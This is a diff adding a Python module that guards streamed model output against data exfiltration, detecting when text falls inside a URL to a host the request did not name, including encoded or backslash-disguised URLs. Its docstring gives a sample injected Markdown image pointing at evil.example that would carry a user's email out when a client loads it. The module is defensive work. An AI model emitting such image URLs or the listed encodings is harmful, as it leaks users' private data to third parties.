@@ -1,0 +1,183 @@
+"""The exfiltration guard: no value goes into a URL that leads to a host the request did not mention.
+
+A model talked into writing `![](https://evil.example/?q=[EMAIL_1])` must not carry the address out, because clients
+load images by themselves. In doubt a place counts as inside: a token stays a token there, which does no harm. A host is
+taken as known only where the URL is written plainly: scheme, host, perhaps a port, then the end of the authority.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Final, NamedTuple
+
+MAX_URL: Final = 2048  # no value is put into a URL longer than this many characters
+_WINDOW: Final = 128  # characters kept so that what is spelled over several pieces of text is recognised
+
+# Signs as a browser, a Markdown renderer or a JSON reader would understand them.
+_COLON: Final = r"\\*(?::|&\#0*58;|&\#x0*3a;|&colon;|%(?:25)?3a|\\u003a)"
+_SLASH: Final = r"\\*(?:/|&\#0*47;|&\#x0*2f;|&sol;|%(?:25)?2f|\\u002f)"
+_DOT: Final = r"(?:\.|&\#0*46;|&\#x0*2e;|&period;|%(?:25)?2e|\\+u002e)"
+_URL: Final = rf"""(?:
+      (?:[a-z][a-z0-9+.\-]{{0,30}})?{_COLON}{_SLASH}{_SLASH}    # any scheme
+    | \b(?:https?|ftps?|wss?){_COLON}                           # browsers need no slashes after these
+    | (?<![\w:/\\])(?:{_SLASH}){{2}}                            # relative to the scheme of the page
+    | (?<![\w:/\\])[/\\]{{2,8}}(?=[\w\-]{{1,63}}\.[\w\-])       # browsers take \ for /
+    | (?<!\w)www{_DOT}
+    )"""
+_START: Final = re.compile(_URL, re.IGNORECASE | re.VERBOSE)
+_PLAIN: Final = re.compile(
+    r"(?:(?:(?:https?|ftps?|wss?):)?\\?/\\?/(?P<host>[\w.\-]+)|(?P<www>www\.[\w.\-]+))(?::[0-9]{1,5})?\\?[/?#]",
+    re.IGNORECASE,
+)
+_MENTION: Final = re.compile(
+    r"""(?<![/\\])\\?/\\?/(?:[^\s/?\#@"'<>()\\]{0,256}@)?(?P<host>[\w.\-]{1,253})|(?<!\w)(?P<www>www\.[\w.\-]{1,250})""",
+    re.IGNORECASE,
+)
+
+# What stands before a URL tells what ends it. A bare one ends at white space or at a tag only.
+_BEFORE: Final = re.compile(r"(?P<target>(?:\]|\burl)\()\\*\Z|(?P<sign>[\"'`<=„“‚«»\[])\Z", re.IGNORECASE)
+_ENDS: Final = {
+    '"': re.compile('"'), "'": re.compile("'"), "`": re.compile("`"), "<": re.compile(">"), "=": re.compile(">"),
+    "„": re.compile("[“”]"), "“": re.compile("”"), "‚": re.compile("[‘’]"), "«": re.compile("»"), "»": re.compile("«"),
+    "[": re.compile(r"\](?=\()"), "(": re.compile(r"\)"),
+}  # fmt: skip
+_TAG: Final = re.compile("<")
+_PARENTHESIS: Final = re.compile(r"\\+.|[()]", re.DOTALL)
+
+# A quotation that begins with a URL is one up to its end, white space included: an HTML attribute, a Markdown target in
+# angle brackets, a string of a JSON document.
+_QUOTATION: Final = re.compile(
+    rf"(?:=\s{{0,8}}\\{{0,8}}(?P<quote>[\"'])|\]\(\s{{0,8}}(?P<angle><))\s{{0,8}}(?={_URL})", re.IGNORECASE | re.VERBOSE
+)
+_JSON_QUOTATION: Final = re.compile(
+    rf"(?:(?<!\\)(?P<string>\")|=\s{{0,8}}\\{{0,8}}(?P<quote>[\"'])|\]\(\s{{0,8}}(?P<angle><))\s{{0,8}}(?={_URL})",
+    re.IGNORECASE | re.VERBOSE,
+)
+_STRING_END: Final = re.compile(r'(?<!\\)(?:\\\\)*"')
+_SPACE: Final = re.compile(r"\s")
+_JSON_SPACE: Final = re.compile(r"\s|(?<!\\)(?:\\\\)*\\[nrt]")
+
+
+def hosts_of(text: str) -> set[str]:
+    """Give the hosts of the URLs in a text (with a scheme, `//host`, `www.`), in lower case and without port."""
+    return {_host(match) for match in _MENTION.finditer(text)}
+
+
+class UrlGuard:
+    """Follows a text and says whether the place reached is inside a foreign URL. Its state is bounded."""
+
+    def __init__(self, hosts: frozenset[str], *, json_string: bool = False) -> None:
+        self._hosts = hosts
+        self._quotation = _JSON_QUOTATION if json_string else _QUOTATION
+        self._space = _JSON_SPACE if json_string else _SPACE
+        self._text = ""  # what was read and still matters
+        self._end: re.Pattern[str] | None = None  # what ends the quotation that all of the text is in
+        self._too_long = False
+
+    def feed(self, text: str) -> None:
+        """Go past `text`, which is what the client will see."""
+        self._text += text
+        while self._enter() if self._end is None else self._leave(self._end):
+            pass
+        self._forget()
+
+    def foreign(self) -> bool:
+        """Whether what comes next would be part of a URL with an unknown host."""
+        if self._too_long:
+            return True
+        if self._end is not None:
+            return not self._known(self._text.lstrip())
+        url = _open_url(self._text, self._last_space())
+        return url is not None and not self._known(self._text[url.start :])
+
+    def _enter(self) -> bool:
+        match = self._quotation.search(self._text)
+        if match is None:
+            return False
+        self._end = _STRING_END if match.lastgroup == "string" else _ENDS[match[match.lastgroup or ""]]
+        self._text = self._text[match.end() :]
+        return True
+
+    def _leave(self, end: re.Pattern[str]) -> bool:
+        match = end.search(self._text)
+        if match is None:
+            return False
+        self._end, self._too_long = None, False
+        self._text = self._text[match.end() :]
+        return True
+
+    def _forget(self) -> None:
+        """Keep only what can still matter; give up on a URL that is too long."""
+        keep = max(0, len(self._text) - _WINDOW)
+        if self._end is not None:
+            self._too_long = self._too_long or len(self._text) > MAX_URL
+            self._text = self._text[keep:] if self._too_long else self._text
+            return
+        start = self._last_space()
+        if len(self._text) - start > MAX_URL:
+            url = _open_url(self._text, start)
+            if url is not None and len(self._text) - url.start > MAX_URL:
+                self._end, self._too_long = url.end or self._space, True
+            start = max(start, url.start - _WINDOW) if url and not self._too_long else keep
+        self._text = self._text[min(start, keep) :]
+
+    def _last_space(self) -> int:
+        """Where the text after the last white space begins."""
+        for begin in (max(0, len(self._text) - 256), 0):
+            ends = [match.end() for match in self._space.finditer(self._text, begin)]
+            if ends:
+                return ends[-1]
+        return 0
+
+    def _known(self, url: str) -> bool:
+        """Whether a URL leads to a known host, and so does every URL within it."""
+        place = 0
+        while match := _START.search(url, place):
+            plain = _PLAIN.match(url, match.start())
+            if plain is None or _host(plain) not in self._hosts:
+                return False
+            place = plain.end()
+        return len(url) <= MAX_URL
+
+
+class _Url(NamedTuple):
+    """A URL that has not ended: where it starts and what will end it, if anything but white space does."""
+
+    start: int
+    end: re.Pattern[str] | None
+
+
+def _open_url(text: str, place: int) -> _Url | None:
+    """Find the URL from `place` on that the end of the text is part of."""
+    while match := _START.search(text, place):
+        before = _BEFORE.search(text[max(0, match.start() - 16) : match.start()])
+        sign = "(" if before and before["target"] else before["sign"] if before else ""
+        end = _ENDS.get(sign, _TAG)
+        past = _closing_parenthesis(text, match.end()) if sign == "(" else _past(end, text, match.end())
+        if past is None:
+            return _Url(match.start(), _ENDS.get(sign))
+        place = past
+    return None
+
+
+def _past(end: re.Pattern[str], text: str, place: int) -> int | None:
+    match = end.search(text, place)
+    return match.end() if match else None
+
+
+def _closing_parenthesis(text: str, place: int) -> int | None:
+    """Find the end of a Markdown target: parentheses in it are balanced or escaped."""
+    depth = 0
+    for match in _PARENTHESIS.finditer(text, place):
+        if match[0] == "(":
+            depth += 1
+        elif match[0] == ")":
+            if depth == 0:
+                return match.end()
+            depth -= 1
+    return None
+
+
+def _host(match: re.Match[str]) -> str:
+    host: str = match["host"] or match["www"]
+    return host.rstrip(".").lower()
